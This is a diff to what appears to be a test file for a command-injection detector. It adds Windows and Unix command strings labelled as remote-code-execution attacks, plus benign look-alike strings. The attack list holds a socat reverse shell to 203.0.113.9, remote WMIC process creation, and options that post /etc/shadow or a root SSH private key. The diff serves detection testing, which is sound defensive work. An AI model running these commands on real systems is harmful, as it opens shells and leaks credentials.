@@ -31,6 +31,19 @@ const ATTACKS: Array<[AttackClass, string]> = [
   ['rce', 'chmod 4755 /tmp/sh'],
   ['rce', 'tasklist /svc'],
   ['rce', 'socat tcp-connect:203.0.113.9:9001 exec:bash'],
+  // Windows command lines whose words are no prose: WMIC's alias then verb, the registry tool given
+  // a hive, cmd.exe's timing probes, a task scheduled to run a program.
+  ['rce', 'wmic os get caption'],
+  ['rce', 'wmic /node:203.0.113.9 process call create "calc.exe"'],
+  ['rce', 'reg query HKLM\\SYSTEM\\CurrentControlSet'],
+  ['rce', 'timeout /t 12'],
+  ['rce', 'waitfor /t 12 sig'],
+  ['rce', 'schtasks /create /sc minute /tn t /tr C:\\t\\run.exe'],
+  // Options handed to a program: find's `-exec` as the whole value, an HTTP client sending a system file.
+  ['rce', '-exec hostname \\;'],
+  ['rce', '-execdir sh {} +'],
+  ['rce', '--post-file=/etc/shadow'],
+  ['rce', 'x --data-binary @/root/.ssh/id_rsa'],
   // cmd.exe switches before `/c`.
   ['rce', 'cmd /v:on /c "set p=whoami&& !p!"'],
   ['rce', 'cmd.exe /q /d /c dir'],
@@ -95,6 +108,13 @@ const LOOK_ALIKES = [
   '${total/count}',
   'c:\\new\\file.txt',
   'sleep 5#tag',
+  // Prose naming Windows tools; a snippet's find command line; a client posting a document.
+  'reg is the registry tool',
+  'wmic is deprecated',
+  'timeout after 10 seconds',
+  "find . -name '*.log' -exec gzip {} \\;",
+  'use find with -exec rm {} \\; carefully',
+  '--post-file=report.txt',
   // JNDI names of an application server.
   'spring.datasource.jndi-name=java:comp/env/jdbc/app',
   'Use JNDI names such as java:comp/env/jdbc/ds',
